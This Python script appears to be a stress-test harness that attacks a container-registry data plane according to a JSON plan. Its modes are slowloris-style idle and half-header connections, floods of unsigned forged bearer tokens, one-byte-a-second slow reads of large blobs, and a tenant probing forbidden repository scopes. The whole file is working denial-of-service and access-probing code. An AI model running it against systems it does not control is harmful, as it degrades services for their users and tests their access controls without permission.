"""What strangers and a greedy tenant do to a data plane, one process for each kind, until it is killed.

    attack.py PLAN.json        prints every second what it did so far, as JSON

Asks for the lowest share of the processor: what is measured is the product and not this program.
"""

import asyncio
import base64
import collections
import json
import os
import resource
import socket
import sys

_BATCH = 16  # Requests sent at once on one connection: a flood costs its sender little.
_CHUNK = 65536


class Pace:
    """At most so many turns a second, of all tasks together."""

    def __init__(self, per_second):
        self._period, self._next = 1 / per_second, 0.0

    async def turn(self, count=1):
        now = asyncio.get_running_loop().time()
        self._next = max(self._next, now) + self._period * count
        await asyncio.sleep(self._next - now)


class Attack:
    def __init__(self, plan):
        self.plan = plan
        self.target = tuple(plan["target"])
        self.sources = plan["sources"]
        self.pace = Pace(plan["perSecond"])
        self.seen = collections.Counter()
        self.number = 0
        self.tasks = []

    def source(self, index):
        return self.sources[index % len(self.sources)]

    def next_number(self):
        self.number += 1
        return self.number

    def head(self, method, path, *fields):
        lines = [f"{method} {path} HTTP/1.1", f"Host: {self.target[0]}", *fields]
        return ("\r\n".join(lines) + "\r\n\r\n").encode()

    async def connect(self, index):
        return await asyncio.open_connection(*self.target, local_addr=(self.source(index), 0))

    async def again_and_again(self, once, index):
        while True:
            try:
                await once(index)
            except (OSError, asyncio.IncompleteReadError):
                self.seen["connections refused or cut"] += 1
                await asyncio.sleep(0.05)

    async def run(self):
        once = getattr(self, self.plan["kind"])
        self.tasks = [
            asyncio.create_task(self.again_and_again(once, index))
            for index in range(self.plan["connections"])
        ]
        while True:
            print(json.dumps(self.seen), flush=True)
            await asyncio.sleep(1)

    # Without an identity: a connection that does nothing, half a head, a large half of one, a
    # request without a token. Each stays until the data plane ends it, and comes again.

    async def anonymous(self, index):
        await self.pace.turn()
        reader, writer = await self.connect(index)
        self.seen["connections"] += 1
        whole = self.head("GET", "/v2/")
        openings = (b"", whole[:-2], whole[:-2] + b"X-Fill: " + b"x" * 40_000, whole)
        try:
            writer.write(openings[index % len(openings)])
            while await reader.read(_CHUNK):
                pass
        finally:
            writer.transport.abort()

    # Tokens that nobody signed, each for a subject that nobody has heard of.

    async def forged(self, index):
        reader, writer = await self.connect(index)
        self.seen["connections"] += 1
        try:
            while True:
                await self.pace.turn(_BATCH)
                path = f"/v2/{self.plan['repository']}/manifests/v1"
                writer.write(b"".join(
                    self.head("GET", path, f"Authorization: Bearer {self.forged_token()}")
                    for _ in range(_BATCH)
                ))  # fmt: skip
                for _ in range(_BATCH):
                    self.seen[await self.answer(reader)] += 1
        finally:
            writer.transport.abort()

    def forged_token(self):
        number = self.next_number()
        claims = {**self.plan["claims"], "sub": f"system:serviceaccount:ns-{number}:invented"}
        claims["jti"] = f"{os.getpid()}-{number}"
        parts = (json.dumps(self.plan["header"]).encode(), json.dumps(claims).encode())
        return ".".join(map(_base64, (*parts, os.urandom(64))))

    # A caller with a right who takes a byte a second of a large blob.

    async def slow(self, index):
        await self.pace.turn()
        loop = asyncio.get_running_loop()
        with socket.socket() as reader:
            reader.setblocking(False)
            reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            reader.bind((self.source(index), 0))
            await loop.sock_connect(reader, self.target)
            await loop.sock_sendall(reader, self.head(
                "GET", f"/v2/{self.plan['repository']}/blobs/{self.plan['digest']}",
                f"Authorization: Bearer {self.plan['token']}",
            ))  # fmt: skip
            self.seen["connections"] += 1
            while await loop.sock_recv(reader, 1):
                self.seen["bytes"] += 1
                await asyncio.sleep(1)

    # A caller with a narrow right who invents a scope for every request, of which every other one is
    # none of its right.

    async def greedy(self, index):
        reader, writer = await self.connect(index)
        self.seen["connections"] += 1
        try:
            while True:
                await self.pace.turn()
                number = self.next_number()
                where = self.plan["forbidden" if number % 2 else "repository"]
                name = f"{where}/x{os.getpid()}-{number}"
                token = f"Authorization: Bearer {self.plan['token']}"
                writer.write(self.head("GET", f"/v2/{name}/manifests/v1", token))
                self.seen[await self.answer(reader)] += 1
        finally:
            writer.transport.abort()

    @staticmethod
    async def answer(reader):
        """Its status, as text, once all of it has come."""
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
        length = head.partition("content-length:")[2].partition("\r\n")[0]
        await reader.readexactly(int(length or "0"))
        return head.split(" ", 2)[1]


def _base64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def main():
    os.nice(10)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    with open(sys.argv[1], encoding="utf-8") as file:
        plan = json.load(file)
    asyncio.run(Attack(plan).run())


if __name__ == "__main__":
    main()
